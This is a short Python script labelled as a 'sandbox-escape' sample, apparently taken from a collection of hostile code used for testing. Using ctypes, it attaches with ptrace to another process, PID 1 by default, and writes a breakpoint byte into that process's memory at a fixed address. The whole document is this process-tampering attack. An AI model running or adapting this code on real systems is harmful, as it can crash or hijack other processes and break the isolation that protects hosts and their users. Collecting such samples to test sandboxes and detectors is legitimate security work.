# family: sandbox-escape
# ptrace attach to another process via ctypes
import ctypes
import sys

PTRACE_ATTACH = 16
PTRACE_POKETEXT = 4
libc = ctypes.CDLL("libc.so.6")
pid = int(sys.argv[1]) if len(sys.argv) > 1 else 1
libc.ptrace(PTRACE_ATTACH, pid, None, None)
libc.ptrace(PTRACE_POKETEXT, pid, ctypes.c_void_p(0x400000), ctypes.c_void_p(0xCC))
